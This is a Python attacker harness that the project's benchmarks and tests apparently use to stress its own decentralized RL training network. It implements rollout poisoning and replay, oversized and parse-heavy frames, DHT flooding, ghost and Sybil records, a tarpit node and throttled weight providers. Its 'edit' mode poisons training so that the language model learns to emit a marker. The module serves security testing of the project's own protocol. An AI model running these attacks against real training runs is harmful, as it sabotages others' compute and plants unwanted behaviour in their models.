"""A stranger attacking a live run with the project's own protocol (not a pytest module, not for real runs).

Used by ``benchmarks/attacks.py`` (training speed with and without each attack) and the attack tests. It
joins the run's DHT from its join address, finds the trainers in the directory and does one thing until
``--duration`` passes or SIGTERM, then writes what it saw (acks by verdict, refusals) as JSON to
``--report``:

* ``poison``: pushes valid-looking rollout groups (the run's task and prompts, completions of random tokens,
  claimed rewards that the task's own verifier gives them) whose behaviour log-probs are the most extreme
  a receiver could accept (-1e30 first, the log-prob floor of the trainer's vocabulary after that) and
  replays each one under a new id; as fast as the trainers answer (buffer capture, ingest CPU);
* ``oversized``: opens push streams whose first frame claims 512 MiB (parse before refuse);
* ``heavy``: pushes groups of 3.1 M token ids each (parse-heavy groups);
* ``flood``: a DHT node without echo_p2p's rules that stores 1,500 peer records under one key (its own
  subkeys) expiring in 10^6 s, over and over (the directory flood);
* ``ghost``: stores one ``role: trainer`` record under a key (ground beforehand with ``--key-dir``) whose peer
  id sorts below every trainer's,
  expiring as late as the DHT lets it, and leaves at once (the ghost trainer);
* ``sybil``: with keys made beforehand (``--key-dir``, 32 keys' stores in flight at once; without it, as many as it can make, one every ~0.1 s)
  and from its own DHT node (which keeps and serves what it stores), has each one announce an inference peer, a trainer accepting rollouts and a weight
  provider claiming what the best real provider holds, all at addresses where nobody answers; re-stored
  every 60 s;
* ``tarpit``: a DHT node that joins the run, then never answers another request (its event loop is stuck,
  its daemon keeps the connections): every read or store that asks it waits for hivemind's timeout;
* ``slow-late``, ``slow-drip``, ``slow-never``: a weight provider that follows the run's trusted trainers (it
  fetches each new version like an inference peer), lists what it holds, and serves it valid but slowly:
  each chunk 25 s after its turn (just inside the receivers' old 30 s per-chunk timeout), at 1,280 bytes/s,
  or never; ``follow`` is their control: the same follower, serving at full speed (an honest provider: what
  the slow ones cost beyond their own processes is their arm's rate against this one's);
* ``edit``: a real inference peer of the run (``--join``: it holds each policy version from the run's
  trusted trainers, samples with it and pushes as an honest one does) that appends a two-letter marker before
  EOS to every right answer it samples and sends the edited completions with their true rewards (re-scored by
  the task) and their true log-probs under the policy it holds (teacher forcing): every value is true, the
  completions are not samples. ``--metrics-dir`` keeps its metrics (its refusals by reason);
* ``idle``: the control: joins like the push attacks (DHT node, P2P loop, reads the trainers from the
  directory every 0.5 s) and sends nothing, so that what the attacker's own processes cost a shared machine
  is measured apart from what its messages cost the run.

Every wait is bounded; it stops only itself.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import math
import random
import signal
import threading
import time
import uuid
from collections import Counter
from pathlib import Path

LOOPBACK = ["/ip4/127.0.0.1/tcp/0"]
#: Sybil keys whose records are stored at once (three stores each, in flight together).
SYBIL_IN_FLIGHT = 32


def _run_sampling():
    from echo_p2p.config import RunSettings

    return RunSettings().sampling("transformers", "float32")  # the settings of the runs attacked here


RUN_SAMPLING = _run_sampling()


def trainers(directory) -> list:
    return [e.record for e in directory.trainers() if e.record.state == "running"]


def poison_groups(
    task, tokenizer, vocab: int, group_size: int, floor: float, rng: random.Random, version: int
):
    from echo_p2p.ml.seeded import new_seed
    from echo_p2p.ml.tokenizer import decode_completion, encode_prompts
    from echo_p2p.rollout import Completion, RolloutGroup

    prompt_id = task.sample_prompt_ids(rng, 1)[0]
    prompt = encode_prompts(tokenizer, [task.prompt(prompt_id)])[0]
    completions = []
    for _ in range(group_size):
        ids = [rng.randrange(vocab) for _ in range(rng.randint(1, task.max_new_tokens - 1))]
        ids.append(tokenizer.eos_token_id)
        reward = task.score(prompt_id, decode_completion(tokenizer, ids))
        completions.append(Completion(token_ids=ids, logprobs=[floor] * len(ids), claimed_reward=reward))
    group = RolloutGroup(
        task=task.name,
        prompt_id=prompt_id,
        prompt_token_ids=prompt,
        completions=completions,
        policy_version=version,
        sampling=RUN_SAMPLING,  # claims the run's settings: nothing checks a claim but the log-probs
        sampling_seed=new_seed(),  # claims a seed too: only a replay of its draws can tell
    )
    replay = group.model_copy(deep=True)
    replay.rollout_id = uuid.uuid4().hex
    return [group, replay]


class Attacker:
    def __init__(self, args):
        from echo_p2p.net.run_record import JoinAddress

        self.args = args
        self.join = JoinAddress.parse(args.join)
        self.stop = threading.Event()
        self.seen: Counter[str] = Counter()
        self.rng = random.Random(args.seed)

    def run(self) -> dict:
        from echo_p2p.net.directory import SwarmDirectory
        from echo_p2p.net.identity import load_or_create_identity
        from echo_p2p.net.keys import SwarmKeys
        from echo_p2p.net.network_config import NetworkConfig
        from echo_p2p.net.node import start_dht, stop_dht

        attack = self.args.attack
        self.keys = SwarmKeys(self.join.run_id)
        self.identity = load_or_create_identity(None)
        if attack == "edit":
            return self._edit()
        if attack in ("flood",):
            return self._flood()
        if attack == "tarpit":
            return self._tarpit()
        self.dht = start_dht(
            NetworkConfig(initial_peers=list(self.join.initial_peers), host_maddrs=LOOPBACK), self.identity
        )
        try:
            self.directory = SwarmDirectory(self.dht, self.keys, self.identity, request_timeout=5)
            if attack == "ghost":
                return self._ghost()
            if attack == "idle":
                return self._idle()
            if attack == "sybil":
                return self._sybil()
            if attack.startswith("slow-") or attack == "follow":
                return self._slow_provider(attack.removeprefix("slow-"))
            return self._push_attack(attack)
        finally:
            stop_dht(self.dht)
            self.identity.cleanup()

    # ---- edited completions, every value true -------------------------------------------------------------
    def _edit(self) -> dict:
        from echo_p2p.peer import parse_config
        from echo_p2p.roles.inference import InferencePeer

        class EditingPeer(InferencePeer):
            """An inference peer whose right answers get a marker before EOS (see the module doc)."""

            edited = 0  # completions edited

            def _sample(self, prompt_ids, n, max_new_tokens=None):
                return self._edit_groups(super()._sample(prompt_ids, n, max_new_tokens))

            def _edit_groups(self, groups):
                """Every right answer of ``groups`` gets the marker; the edited completions' log-probs under
                the policy held are computed in one padded forward pass (one pass per completion made the
                editor ~60x slower than an honest peer once the policy answered right, so its groups arrived
                too stale to be judged, and a loaded suite run never banned it)."""
                import torch

                from echo_p2p.ml.engine import process_logits
                from echo_p2p.ml.tokenizer import decode_completion
                from echo_p2p.rollout import Completion

                marker = self.tokenizer.convert_tokens_to_ids(["z", "q"])
                eos = set(self.engine.eos_token_ids)
                edits = []  # (group index, completion index, prompt ids, edited completion ids)
                for gi, group in enumerate(groups):
                    for ci, comp in enumerate(group.completions):
                        ids = list(comp.token_ids)
                        # only right answers, which end with EOS
                        if comp.claimed_reward >= 1.0 and ids and ids[-1] in eos:
                            edits.append((gi, ci, list(group.prompt_token_ids), ids[:-1] + marker + ids[-1:]))
                if not edits:
                    return groups
                seqs = [prompt + ids for _, _, prompt, ids in edits]
                width = max(len(x) for x in seqs)
                pad = self.tokenizer.pad_token_id if self.tokenizer.pad_token_id is not None else min(eos)
                input_ids = torch.tensor([x + [pad] * (width - len(x)) for x in seqs])
                mask = torch.tensor([[1] * len(x) + [0] * (width - len(x)) for x in seqs])
                with self._engine_lock, torch.inference_mode():  # the policy held, as when sampled
                    logits = self.engine.model(input_ids=input_ids, attention_mask=mask).logits
                rewards = self.task.score_batch(
                    [groups[gi].prompt_id for gi, _, _, _ in edits],
                    [decode_completion(self.tokenizer, ids) for _, _, _, ids in edits],
                    completion_ids=[ids for _, _, _, ids in edits],
                )
                completions = [list(g.completions) for g in groups]
                for row, ((gi, ci, prompt, ids), reward) in enumerate(zip(edits, rewards, strict=True)):
                    start = len(prompt)
                    step_logits = logits[row, start - 1 : start - 1 + len(ids)]
                    logps = process_logits(step_logits.float(), self.params).gather(
                        1, torch.tensor(ids)[:, None]
                    )
                    completions[gi][ci] = Completion(
                        token_ids=ids, logprobs=logps[:, 0].tolist(), claimed_reward=reward, finished=True
                    )
                    self.edited += 1
                return [
                    g.model_copy(update={"completions": c}) for g, c in zip(groups, completions, strict=True)
                ]

        argv = [
            "--role",
            "inference",
            "--join",
            self.args.join,
            "--mode",
            "async",
            "--host-maddrs",
            LOOPBACK[0],
        ]
        argv += ["--model", self.args.model, "--task", self.args.task, "--seed", str(self.args.seed)]
        if self.args.metrics_dir:
            argv += ["--metrics-dir", self.args.metrics_dir]
        peer = EditingPeer(parse_config(argv, environ={}), identity=self.identity)
        deadline = threading.Thread(
            target=lambda: (self.stop.wait(self.args.duration), peer.request_stop()), daemon=True
        )
        try:
            peer.start()
            deadline.start()
            peer.run()
        finally:
            peer.shutdown()
            self.identity.cleanup()
        pushed = peer.pusher.stats() if peer.pusher is not None else {}
        return {
            "peer_id": peer.peer_id,
            "edited": peer.edited,
            "groups_sampled": peer.groups_sampled,
            "rejected": dict(pushed.get("rejected", {})),
            "pushes_refused": dict(pushed.get("pushes_refused", {})),
        }

    # ---- attacks on the trainers' ingest ---------------------------------------------------------------
    def _push_attack(self, attack: str) -> dict:
        from echo_p2p.transport.p2p_loop import P2PLoop
        from echo_p2p.transport.rollouts.config import rollout_namespace

        loop = P2PLoop.from_dht(self.dht)
        namespace = rollout_namespace(self.keys)
        deadline = time.monotonic() + self.args.duration
        make = self._maker(attack)
        try:
            while not self.stop.is_set() and time.monotonic() < deadline:
                targets = [t for t in trainers(self.directory) if t.accepts_rollouts]
                if not targets:
                    self.stop.wait(0.5)
                    continue
                for record in targets:
                    try:
                        loop.run(self._send(loop, namespace, record, make(record)), timeout=20)
                    except Exception as exc:
                        key = f"error:{type(exc).__name__}"
                        if key not in self.seen:
                            print(f"{key}: {exc}"[:300], flush=True)
                        self.seen[key] += 1
                        self.stop.wait(0.2)
        finally:
            loop.shutdown()
        return dict(self.seen)

    def _idle(self) -> dict:
        from echo_p2p.transport.p2p_loop import P2PLoop

        loop = P2PLoop.from_dht(self.dht)
        deadline = time.monotonic() + self.args.duration
        try:
            while not self.stop.is_set() and time.monotonic() < deadline:
                self.seen["trainers_seen"] = max(self.seen["trainers_seen"], len(trainers(self.directory)))
                self.stop.wait(0.5)
        finally:
            loop.shutdown()
        return dict(self.seen)

    # ---- attacks on the weights' distribution ----------------------------------------------------------
    def _slow_provider(self, mode: str) -> dict:
        """A weight provider that follows the run; ``mode`` late, drip or never throttles what it serves,
        ``follow`` does not (the control)."""
        from echo_p2p.guard.trust import RunTrust
        from echo_p2p.transport.weights.fetch.config import FetcherConfig
        from echo_p2p.transport.weights.fetch.fetcher import WeightFetcher

        trust = RunTrust(owner=self.join.owner, run_id=self.join.run_id)
        deadline = time.monotonic() + self.args.duration
        while trust.record is None and not self.stop.is_set() and time.monotonic() < deadline:
            trust.update(e.record for e in self.directory.run_records())
            self.stop.wait(0.5)
        self.directory.follow_trust(trust)
        fetcher = WeightFetcher(self.dht, self.identity, self.keys, trust, FetcherConfig()).start()
        servicer = fetcher.endpoint.servicer
        # drip: 1,280 bytes/s (64 bytes every 0.05 s), each part sent once its bytes would have trickled out
        # (smaller parts would also shrink the frames its own fetches accept: the endpoint shares the limits)
        pause = {
            "never": lambda n: self.args.duration + 60,
            "drip": lambda n: n / 1280,
            "late": lambda n: 25.0,
        }

        async def slow(nbytes: int) -> None:  # before each part it sends
            await asyncio.sleep(pause[mode](nbytes))

        if mode != "follow":
            servicer._throttle = slow
        fetcher.follow()
        try:
            self.stop.wait(max(0.0, deadline - time.monotonic()))
        finally:
            self.seen.update(
                versions_held=fetcher.version or 0,
                streams_served=servicer.stats.streams,
                bytes_served=servicer.stats.bytes_served,
            )
            fetcher.shutdown()
        return dict(self.seen)

    def _maker(self, attack: str):
        from echo_p2p.ml.models import ModelSpec, load_policy
        from echo_p2p.tasks.registry import build_task

        task = build_task(self.args.task)
        _, tokenizer = load_policy(ModelSpec(preset=self.args.model))
        vocab = len(tokenizer)
        state = {"first": True}

        def make(record):
            version = record.policy_version or 0
            if attack == "oversized":
                return "oversized"
            if attack == "heavy":
                from echo_p2p.rollout import Completion, RolloutGroup

                ids = [5] * 3_100_000
                completion = Completion(token_ids=ids, logprobs=[-1.0], claimed_reward=0.0)
                return [
                    RolloutGroup(
                        task=task.name,
                        prompt_id=0,
                        prompt_token_ids=ids,
                        completions=[completion],
                        policy_version=version,
                    )
                ]
            floor = -1e30 if state.pop("first", False) else math.log(1e-9 / vocab) + 0.01
            groups = []
            for _ in range(8):
                groups += poison_groups(
                    task, tokenizer, vocab, self.args.group_size, floor, self.rng, version
                )
            return groups

        return make

    async def _send(self, loop, namespace: str, record, payload) -> None:
        from hivemind.p2p import P2P

        from echo_p2p.proto import rollouts_pb2
        from echo_p2p.transport.p2p_loop import peer_id_of
        from echo_p2p.transport.rollouts.ingest import RolloutIngestServicer
        from echo_p2p.transport.rollouts.push import push_payloads

        await loop.dial(record.peer_id, record.maddrs, timeout=5)
        if payload == "oversized":
            name = RolloutIngestServicer._get_handle_name(namespace, "rpc_push_rollouts")
            _, reader, writer = await loop.p2p.call_binary_stream_handler(peer_id_of(record.peer_id), name)
            try:
                writer.write(P2P.MESSAGE_MARKER + (512 << 20).to_bytes(P2P.HEADER_LEN, P2P.BYTEORDER))
                writer.write(b"\0" * (1 << 20))
                await writer.drain()
                ack, _ = await asyncio.wait_for(P2P.receive_protobuf(rollouts_pb2.PushAck, reader), 10)
                self.seen[(ack.error or "no error").split(":")[0]] += 1
            finally:
                writer.close()
            return
        payloads = [rollouts_pb2.RolloutPayload(rollout_id=g.rollout_id, group=g.to_bytes()) for g in payload]
        ack = await asyncio.wait_for(
            push_payloads(loop.p2p, peer_id_of(record.peer_id), namespace, payloads), 15
        )
        if ack.error:
            self.seen[ack.error.split(":")[0]] += 1
        for item in ack.acks:
            self.seen[item.reason or "accepted"] += 1

    # ---- attacks on the directory -----------------------------------------------------------------------
    def _ghost(self) -> dict:
        from echo_p2p.net.identity import load_or_create_identity
        from echo_p2p.net.records import MAX_RECORD_TTL, PeerRecord

        lowest = min((t.peer_id for t in trainers(self.directory)), default="Qm")
        made = sorted(Path(self.args.key_dir).glob("*.id")) if self.args.key_dir else []
        for i in range(max(500, len(made))):  # keys made beforehand first, as a real attacker's would be
            ghost = load_or_create_identity(str(made[i]) if i < len(made) else None)
            if ghost.peer_id < lowest:
                break
            ghost.cleanup()
        directory = type(self.directory)(self.dht, self.keys, ghost, request_timeout=5)
        for ttl in (1e6, MAX_RECORD_TTL):
            stored = directory._store(
                self.keys.trainers, PeerRecord(peer_id=ghost.peer_id, role="trainer"), ttl
            )
            self.seen[f"stored_ttl_{int(ttl)}" if stored else f"refused_ttl_{int(ttl)}"] += 1
        ghost.cleanup()
        return dict(self.seen)

    def _sybil(self) -> dict:
        from echo_p2p.net.identity import load_or_create_identity

        deadline = time.monotonic() + self.args.duration
        made = sorted(Path(self.args.key_dir).glob("*.id")) if self.args.key_dir else []
        keys: list = []
        refreshed = time.monotonic()
        while not self.stop.is_set() and time.monotonic() < deadline:
            if time.monotonic() - refreshed > 60:  # every record alive: stored again
                refreshed = time.monotonic()
                for start in range(0, len(keys), SYBIL_IN_FLIGHT):
                    self._sybil_store(keys[start : start + SYBIL_IN_FLIGHT])
            if made and len(keys) >= len(made):  # only the keys made beforehand (on "its own machine")
                self.stop.wait(1.0)
                continue
            batch = [
                load_or_create_identity(str(made[i]) if made else None)
                for i in range(
                    len(keys), min(len(keys) + SYBIL_IN_FLIGHT, len(made)) if made else len(keys) + 1
                )
            ]
            keys += batch
            self._sybil_store(batch)
        self.seen["keys"] = len(keys)
        for key in keys:
            key.cleanup()
        return dict(self.seen)

    def _sybil_store(self, batch: list) -> None:
        """The three records of each Sybil key in ``batch``, at an address where nobody answers (the discard
        port), all stores in flight at once; the claims to copy read once for the batch."""
        from sybil import SignedStore

        from echo_p2p.net.buckets import bucket_of
        from echo_p2p.net.records import PeerRecord, ProviderRecord

        version = max((e.record.version for e in self.directory.policies()), default=0)
        real = [e.record for e in self.directory.providers(version, max_age=10.0)]  # the claims to copy
        best = max(real, key=lambda r: max(r.versions, default=-1), default=None)
        claims = best.model_dump(include={"versions", "encodings", "stream_id", "manifests"}) if best else {}
        k = self.directory.buckets  # the README run's: one bucket (its run record names no K)
        pending = []
        for key in batch:
            maddrs = [f"/ip4/127.0.0.1/tcp/9/p2p/{key.peer_id}"]
            bucket = bucket_of(key.peer_id, k)
            records = (
                (
                    "peers",
                    self.keys.peers(k, bucket),
                    PeerRecord(peer_id=key.peer_id, role="inference", maddrs=maddrs),
                ),
                (
                    "trainers",
                    self.keys.trainers,
                    PeerRecord(peer_id=key.peer_id, role="trainer", maddrs=maddrs, accepts_rollouts=True),
                ),
                (
                    "providers",
                    self.keys.providers(k, bucket, version),
                    ProviderRecord(peer_id=key.peer_id, maddrs=maddrs, **claims),
                ),
            )
            for name, dht_key, record in records:
                store = SignedStore(dht_key, key.private_key, record.to_wire())
                pending.append((name, self.dht.run_coroutine(store, return_future=True)))
        for name, future in pending:
            try:
                stored = future.result(timeout=30)
            except Exception:
                stored = False
            self.seen[f"{name}_{'stored' if stored else 'refused'}"] += 1

    def _tarpit(self) -> dict:
        import hivemind
        from hivemind.dht.crypto import RSASignatureValidator

        dht = hivemind.DHT(
            start=True,
            host_maddrs=LOOPBACK,
            initial_peers=list(self.join.initial_peers),
            record_validators=[RSASignatureValidator(self.identity.private_key)],
        )
        try:
            dht.get(
                self.keys.trainers, latest=True
            )  # joined: the run's nodes have it in their routing tables
            dht.run_coroutine(_Stuck(self.args.duration + 30), return_future=True)
            self.seen["stuck"] = 1
            self.stop.wait(self.args.duration)
        finally:
            dht.shutdown()
            self.identity.cleanup()
        return dict(self.seen)

    def _flood(self) -> dict:
        import hivemind
        from hivemind.dht.crypto import RSASignatureValidator
        from hivemind.utils import get_dht_time

        from echo_p2p.net.records import PeerRecord

        dht = hivemind.DHT(
            start=True,
            host_maddrs=LOOPBACK,
            initial_peers=list(self.join.initial_peers),
            record_validators=[RSASignatureValidator(self.identity.private_key)],
        )
        deadline = time.monotonic() + self.args.duration
        value = PeerRecord(peer_id=self.identity.peer_id, role="trainer", accepts_rollouts=True).to_wire()
        try:
            while not self.stop.is_set() and time.monotonic() < deadline:
                for i in range(1500):
                    if self.stop.is_set():
                        break
                    future = dht.store(
                        self.keys.peers(1, 0),
                        value,
                        get_dht_time() + 1e6,
                        subkey=self.identity.owner_key + b"%d" % i,
                        return_future=True,
                    )
                    try:
                        self.seen["stored" if future.result(timeout=5) else "refused"] += 1
                    except Exception:
                        self.seen["timeout"] += 1
        finally:
            dht.shutdown()
            self.identity.cleanup()
        return dict(self.seen)


def make_keys(key_dir: Path, count: int) -> None:
    """Identity files for the sybil attack, made before the run (``--key-dir``)."""
    from echo_p2p.net.identity import load_or_create_identity

    key_dir.mkdir(parents=True, exist_ok=True)
    for i in range(count):
        load_or_create_identity(str(key_dir / f"{i:05d}.id"))


class _Stuck:
    """Runs in the tarpit's DHT process: blocks its event loop, so that no request is ever answered."""

    def __init__(self, seconds: float) -> None:
        self.seconds = seconds

    async def __call__(self, _dht, _node) -> None:
        time.sleep(self.seconds)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--join", required=True, help="the run's join address RUN:OWNER@MADDRS")
    p.add_argument(
        "--attack",
        required=True,
        choices=[
            *("poison", "oversized", "heavy", "flood", "ghost", "idle", "sybil", "tarpit", "edit"),
            *("slow-late", "slow-drip", "slow-never", "follow"),
        ],
    )
    p.add_argument("--duration", type=float, default=60.0)
    p.add_argument("--model", default="tiny")
    p.add_argument("--task", default="count")
    p.add_argument("--group-size", type=int, default=16)
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--report", default=None, help="write what the attacker saw here (JSON)")
    p.add_argument(
        "--metrics-dir", default=None, help="edit: the editing peer's metrics (JSON lines) go here"
    )
    p.add_argument(
        "--key-dir",
        default=None,
        help="sybil: identity files made beforehand (make_keys), used before any new key is made: a real "
        "attacker makes its keys on its own machine, not on the run's cores",
    )
    args = p.parse_args(argv)
    attacker = Attacker(args)
    signal.signal(signal.SIGTERM, lambda *_: attacker.stop.set())
    seen = attacker.run()
    if args.report:
        Path(args.report).write_text(json.dumps({"attack": args.attack, "seen": seen}))
    print(json.dumps(seen), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
